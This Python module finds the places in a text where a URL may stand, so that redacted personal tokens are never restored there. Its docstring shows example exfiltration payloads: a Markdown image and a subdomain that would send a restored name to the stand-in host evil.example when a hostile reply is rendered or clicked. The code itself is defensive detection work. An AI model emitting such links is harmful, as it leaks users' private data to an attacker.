r"""Where in a text an address may stand. Nothing is restored there: a hostile reply would carry the original out.

`![x](https://evil.example/?q=[PERSON_1])` sends the name to its author as soon as a program shows the reply, and
`[PERSON_1].evil.example` does when somebody clicks. This module knows nothing of tokens but that they were replaced by
`HIDDEN` characters, or `LINKISH` ones where the original is an address itself. It errs towards "an address": Markdown
(CommonMark 0.31, GFM autolinks), HTML (WHATWG tokenizer), bare domains as programs make links of them.
"""

from __future__ import annotations

import re
from bisect import bisect_left
from collections.abc import Iterator

HIDDEN, LINKISH = "\ue000", "\ue001"
"""Stand for each character of a token, and of a token whose original is an address (private use area)."""

_MARKS = HIDDEN + LINKISH
_OPENER = re.compile(
    r"(?P<tag><[A-Za-z/!?])"
    r"|(?P<target>\]\()"
    r"|(?P<definition>(?:^|(?<=\n))[ \t>]{0,8}\[(?:[^\[\]\\\n]|\\.)*\]:)"
)
_SPACE = re.compile(r"[ \t\n\r\f\v]")
_ADDRESS = re.compile(
    r"[:：]?\\?[/／⁄∕]\\?[/／⁄∕]"  # a scheme's slashes, escaped or not, and an address without scheme
    r"|(?:mailto|tel|sms|data|javascript|vbscript|file|blob|geo|magnet|whatsapp|intent):"
    r"|www[.。．｡․]"
    r"|\\\\[0-9A-Za-z]"  # a share of another machine: programs for Windows open it, and ask who is there
    r"|&(?:#x?)?[0-9A-Za-z]{1,32};"  # an entity may be a slash or a dot
    r"|[.。．｡․][A-Za-z0-9][A-Za-z0-9-]*[/?#:\\／⁄∕]",  # a host's last label with what follows it
    re.IGNORECASE,
)
_HOST_CHARACTERS = rf"A-Za-z0-9{_MARKS}_%+@\-"
_DOTS = ".。．｡․"
_HOST = re.compile(rf"(?<![{_HOST_CHARACTERS}{_DOTS}])[{_HOST_CHARACTERS}{_DOTS}]++")
_LABEL = re.compile(rf"[{_DOTS}](?:[A-Za-z]{{2,}}|xn--[A-Za-z0-9-]+)[{_DOTS}]?$")
_MAILBOX = re.compile(r"[^@]@[^@]")
_JOINED = re.compile(rf"(?<!{LINKISH}){LINKISH}++[!-;=-~{_MARKS}]+")  # an address of ours and all that a program would take for its end
_IN_TAG = re.compile(r"=[ \t\n\r\f]*(?:\"[^\"]*(?:\"|$)|'[^']*(?:'|$))|>")
_IN_PARAGRAPH = re.compile(r"\\.|[()]|\n[ \t]*\n", re.DOTALL)
_ANGLE = re.compile(r"[ \t\n]*<(?:[^<>\\\n]|\\.)*>")
_RAW = re.compile(r"<(script|style|iframe|svg|math|object|noscript)\b", re.IGNORECASE)


def addresses(text: str) -> list[tuple[int, int]]:
    """Return the stretches of ``text`` in which an address may stand, in order, overlapping or not; in linear time."""
    return sorted([*_structures(text), *_bare(text)])


def _structures(text: str) -> Iterator[tuple[int, int]]:
    """Yield tags, targets of links and images, and definitions of references."""
    targets = _Targets(text)
    at = 0
    while opener := _OPENER.search(text, at):
        start = opener.start()
        at = opener.end()
        if opener["tag"]:
            at = max(at, _element_end(text, start))
            yield start, at
        elif opener["target"]:
            yield start, targets.end(opener.end() - 1)
        else:
            yield start, _line_end(text, opener.end())


def _element_end(text: str, start: int) -> int:
    """Return the end of a tag, or of the whole element where a program reads what is in it."""
    end = _tag_end(text, start + 1)
    raw = _RAW.match(text, start)
    if raw is None:
        return end
    close = re.compile(rf"</{raw[1]}", re.IGNORECASE).search(text, end)
    return close.start() if close else len(text)


def _tag_end(text: str, at: int) -> int:
    """Return the end of the tag whose name starts at ``at``, as a browser finds it: quotes count only around values."""
    while found := _IN_TAG.search(text, at):
        if found[0] == ">":
            return found.end()
        at = found.end()
    return len(text)


class _Targets:
    """The ends of the targets of links, all found in one pass."""

    def __init__(self, text: str) -> None:
        self._text = text
        self._ends: dict[int, int] = {}  # from each "(" to behind the ")" that fits it
        self._closing: list[int] = []
        opened: list[int] = []
        for found in _IN_PARAGRAPH.finditer(text):
            if found[0] == "(":
                opened.append(found.start())
            elif found[0] == ")":
                self._closing.append(found.end())
                if opened:
                    self._ends[opened.pop()] = found.end()
            elif found[0][0] == "\n":
                self._ends.update(dict.fromkeys(opened, found.start()))
                opened.clear()

    def end(self, opening: int) -> int:
        """Return where the target that starts with the "(" at ``opening`` ends, at the latest with the paragraph."""
        end = self._ends.get(opening, len(self._text))
        angle = _ANGLE.match(self._text, opening + 1)
        if angle is None:
            return end
        after = bisect_left(self._closing, angle.end() + 1)
        return max(end, self._closing[after] if after < len(self._closing) else len(self._text))


def _line_end(text: str, at: int) -> int:
    """Return the end of a definition: of its line, or of the next one where its own holds no more."""
    end = text.find("\n", at)
    if end >= 0 and not text[at:end].strip():
        end = text.find("\n", end + 1)
    return end if end >= 0 else len(text)


def _bare(text: str) -> Iterator[tuple[int, int]]:
    """Yield addresses that stand in the text as they are, up to the next space: naive programs take all of it."""
    at = 0
    while at < len(text):
        gap = _SPACE.search(text, at)
        end = gap.start() if gap else len(text)
        run = text[at:end]
        if HIDDEN in run or LINKISH in run:
            yield from ((at + left, at + right) for left, right in _in_run(run))
        at = end + 1


def _in_run(run: str) -> Iterator[tuple[int, int]]:
    """Yield the addresses in a run of characters without a space."""
    address = _ADDRESS.search(run)
    if address:
        yield address.start(), len(run)
    for host in _HOST.finditer(run):
        if _LABEL.search(host[0]) or _MAILBOX.search(host[0]) or (LINKISH in host[0] and host[0].strip(_DOTS + LINKISH)):
            yield host.span()
    for link in _JOINED.finditer(run):
        yield link.span()
